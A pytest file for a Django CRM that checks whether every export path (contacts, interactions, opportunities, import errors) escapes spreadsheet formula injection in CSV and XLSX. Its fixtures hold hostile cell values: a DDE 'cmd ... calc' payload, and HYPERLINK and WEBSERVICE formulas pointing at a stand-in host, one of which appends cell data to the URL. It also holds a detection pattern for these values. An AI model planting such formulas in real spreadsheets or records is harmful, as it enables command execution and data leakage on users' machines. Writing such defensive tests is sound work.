"""Every export path writes spreadsheet-safe files (issue 13 item 7, issue 9 item 8): the
contact list's export, the bulk "export selected", export_contacts, and the interaction
and opportunity exports (page and command), each in CSV, CSV for Excel (;) and XLSX.

A stored value that starts with =, +, -, @, tab or CR never starts a CSV cell (it gets
an apostrophe) and is a text cell, never a formula, in XLSX, where a phone number such
as +47 22 33 44 55 reads exactly as stored."""

from __future__ import annotations

import csv
import datetime
import io
import re
import zipfile
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from contacts.models import Contact
from interactions.models import InteractionLogEntry
from opportunities.models import Opportunity

pytestmark = pytest.mark.django_db

PHONE = "+47 22 33 44 55"
HOSTILE = {
    "name": "=cmd|' /C calc'!A0",
    "address": "+1+1",
    "address_2": "-2+3",
    "city": "@SUM(A1)",
    "county": "\t=1+1",
    "job_title": "\r=1+1",
    "phone_no": PHONE,
    "mobile_phone_no": "-",
    "email": '=HYPERLINK("http://x.example/?"&A1)',
}
RISKY = re.compile(r"^[ \n]*[=+\-@\t\r]")


@pytest.fixture
def hostile(db):
    company = Contact.objects.create(no="C1", type=Contact.Type.COMPANY, **HOSTILE)
    InteractionLogEntry.objects.create(
        contact=company,
        contact_no="C1",
        contact_name=HOSTILE["name"],
        date=datetime.date(2026, 12, 1),
        description="@SUM(1+1)*cmd|' /C calc'!A0",
        subject="=1+1",
        cost=Decimal("12.50"),
    )
    Opportunity.objects.create(
        no="OP1", description='=WEBSERVICE("http://x.example")', contact=company
    )
    return company


def _csv_cells(data: bytes, delimiter: str) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _xlsx_cells(data: bytes) -> list:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, "a formula cell was written"
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    return cells


def assert_safe(data: bytes, fmt: str) -> list[str]:
    """Every cell is safe; returns the cell texts (as a spreadsheet shows them)."""
    if fmt == "xlsx":
        cells = _xlsx_cells(data)
        for cell in cells:
            if isinstance(cell.value, str) and RISKY.match(cell.value):
                assert cell.data_type == "s" and cell.quotePrefix, cell.value
        return [c.value for c in cells if isinstance(c.value, str)]
    cells = _csv_cells(data, ";" if fmt == "csv-excel" else ",")
    risky = [cell for cell in cells if RISKY.match(cell)]
    assert risky == [], risky
    return cells


def _body(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content)


FORMATS = ["csv", "csv-excel", "xlsx"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_contact_list_export(staff_client, hostile, fmt):
    response = staff_client.get(reverse("contacts:export"), {"format": fmt})
    cells = assert_safe(_body(response), fmt)
    if fmt == "xlsx":
        assert PHONE in cells and HOSTILE["name"] in cells
    else:
        assert "'" + PHONE in cells and "'" + HOSTILE["name"] in cells


@pytest.mark.parametrize("fmt", FORMATS)
def test_contact_bulk_export_of_the_selection(staff_client, hostile, fmt):
    response = staff_client.post(
        reverse("contacts:bulk"), {"action": "export", "selected": ["C1"], "export_format": fmt}
    )
    cells = assert_safe(_body(response), fmt)
    assert (PHONE if fmt == "xlsx" else "'" + PHONE) in cells


@pytest.mark.parametrize("fmt", FORMATS)
def test_interaction_list_export(staff_client, hostile, fmt):
    response = staff_client.get(reverse("interactions:export"), {"format": fmt})
    cells = assert_safe(_body(response), fmt)
    assert any("SUM(1+1)" in c for c in cells)


@pytest.mark.parametrize("fmt", FORMATS)
def test_opportunity_list_export(staff_client, hostile, fmt):
    response = staff_client.get(reverse("opportunities:export"), {"format": fmt})
    cells = assert_safe(_body(response), fmt)
    assert any("WEBSERVICE" in c for c in cells)


COMMANDS = ["export_contacts", "export_interactions", "export_opportunities"]


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize(
    ("name", "options", "fmt"),
    [
        ("out.csv", [], "csv"),
        ("out.csv", ["--delimiter", ";"], "csv-excel"),
        ("out.xlsx", [], "xlsx"),
    ],
)
def test_export_commands(hostile, tmp_path, command, name, options, fmt):
    path = tmp_path / name
    out = StringIO()
    call_command(command, str(path), *options, "--no-progress", stdout=out)
    assert "Exported 1 " in out.getvalue()
    cells = assert_safe(path.read_bytes(), fmt)
    assert any(("SUM" in c or "cmd" in c or "WEBSERVICE" in c) for c in cells)


@pytest.mark.parametrize("command", COMMANDS)
def test_export_commands_to_standard_output(hostile, command):
    out = StringIO()
    call_command(command, "-", stdout=out)
    assert_safe(out.getvalue().encode(), "csv")


def test_duplicate_pairs_file_is_safe_too(tmp_path, monkeypatch):
    """find_duplicates --output writes numbers and scores only; a stored number that
    breaks the number rule (check_numbers lists them) still cannot start a formula."""
    from duplicates.management.commands import find_duplicates

    path = tmp_path / "pairs.csv"
    with path.open("w", newline="") as handle:
        find_duplicates.write_pairs(handle, [("=1+1", "-C2", 91.5)])
    assert_safe(path.read_bytes(), "csv")


def test_import_error_file_is_safe_too(staff_client, settings, tmp_path):
    """The import page's error file repeats the file's values in its messages."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.IMPORT_UPLOAD_ROOT = str(tmp_path / "uploads")
    data = 'type,no,name,phone_no\ncompany,C9,Firm AS,"=HYPERLINK(""http://x.example"")"\n'
    file = SimpleUploadedFile("c.csv", data.encode(), content_type="text/csv")
    preview = staff_client.post(reverse("contacts:import"), {"file": file})
    token = preview.context["token"]
    errors = staff_client.get(reverse("contacts:import"), {"step": "errors", "token": token})
    cells = assert_safe(errors.content, "csv")
    assert any(c.startswith("'=HYPERLINK") for c in cells), cells


@pytest.mark.parametrize("value", ["²", "abc", "-1", "9" * 30, "=1+1", ""])
@pytest.mark.parametrize("url", ["contacts:export", "interactions:export", "opportunities:export"])
def test_odd_filter_values_never_give_a_server_error(staff_client, hostile, url, value):
    keys = ["format", "q", "type", "company", "salesperson", "territory", "country", "contact"]
    keys += ["template", "group", "document_type", "date_from", "date_to", "status"]
    for key in keys:
        response = staff_client.get(reverse(url), {key: value})
        assert response.status_code in (200, 302), (key, value, response.status_code)
